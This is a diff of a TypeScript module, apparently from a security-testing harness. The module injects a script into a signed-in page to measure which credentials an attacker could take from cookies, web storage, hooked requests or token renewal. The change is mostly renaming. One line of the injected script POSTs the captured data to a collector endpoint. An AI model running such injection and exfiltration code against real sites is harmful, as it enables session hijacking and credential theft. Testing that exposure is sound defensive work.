@@ -6,16 +6,16 @@ import { fromBodies } from '../clients/client-kept.ts';
 import { openBrowser, signInAt } from './browsing.ts';
 
 /** Where the application's page keeps what it must send along itself; a cookie is kept by the browser. */
-export type Place = 'cookie' | 'memory' | 'localStorage' | 'sessionStorage';
+export type PageStorage = 'cookie' | 'memory' | 'localStorage' | 'sessionStorage';
 
 /** One thing that an injected script got hold of, and from where. */
-export interface Artefact {
+export interface CapturedCredential {
   readonly source: 'document.cookie' | 'localStorage' | 'sessionStorage' | 'a hooked request' | 'a renewal of its own';
   readonly credential: Credential;
 }
 
 /** Where pages of this kind may keep their credential. One that can be renewed need not survive its page. */
-export function placesOf({ credentials, steps }: Protocol): readonly Place[] {
+export function pageStoragesOf({ credentials, steps }: Protocol): readonly PageStorage[] {
   const bearer = Object.values(credentials).some(({ from }) => from !== 'set-cookie');
   if (!bearer) return ['cookie'];
   return steps.refresh ? ['memory'] : ['memory', 'localStorage', 'sessionStorage'];
@@ -27,7 +27,7 @@ export function placesOf({ credentials, steps }: Protocol): readonly Place[] {
  */
 export async function openSignedIn(
   stage: Stage,
-  place: Place,
+  place: PageStorage,
 ): Promise<{ readonly browser: Browser; readonly tab: Tab; readonly sinceMs: number }> {
   const browser = await openBrowser(stage);
   try {
@@ -44,7 +44,7 @@ export async function openSignedIn(
 }
 
 /** Runs a script in the page that takes all it can reach and sends it to a stranger. @returns what he then holds. */
-export async function steal(stage: Stage, browser: Browser, tab: Tab): Promise<readonly Artefact[]> {
+export async function capture(stage: Stage, browser: Browser, tab: Tab): Promise<readonly CapturedCredential[]> {
   const { protocol } = stage.target;
   const renewal = protocol.steps.refresh && stage.request('refresh');
   await tab.run(captured, {
@@ -84,8 +84,8 @@ const captured = `
   await genuine(given.collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(taken) });`;
 
 /** Reads what the script captured, as attackers do who know the application. */
-export function artefactsIn(taken: Facts, { credentials }: Protocol): Artefact[] {
-  return Object.entries(credentials).flatMap(([name, { role, from, in: place }]): Artefact[] => {
+export function artefactsIn(taken: Facts, { credentials }: Protocol): CapturedCredential[] {
+  return Object.entries(credentials).flatMap(([name, { role, from, in: place }]): CapturedCredential[] => {
     const as = (values: Readonly<Record<string, string>>): Credential => ({ [name]: { role, values } });
     if ('cookies' in place) {
       const jar = Object.fromEntries(
@@ -101,7 +101,7 @@ export function artefactsIn(taken: Facts, { credentials }: Protocol): Artefact[]
     if (!('header' in place)) return [];
     const token = (text: string) => text.split(`"${place.header}":"${place.prefix}`)[1]?.split('"')[0];
     const renewed = from !== 'set-cookie' && 'json' in from ? Object(taken.renewed)[from.json] : undefined;
-    const found: readonly (readonly [Artefact['source'], string | undefined])[] = [
+    const found: readonly (readonly [CapturedCredential['source'], string | undefined])[] = [
       ['localStorage', token([taken.localStorage].flat().join())],
       ['sessionStorage', token([taken.sessionStorage].flat().join())],
       ['a hooked request', token(JSON.stringify(taken.hooked ?? []))],
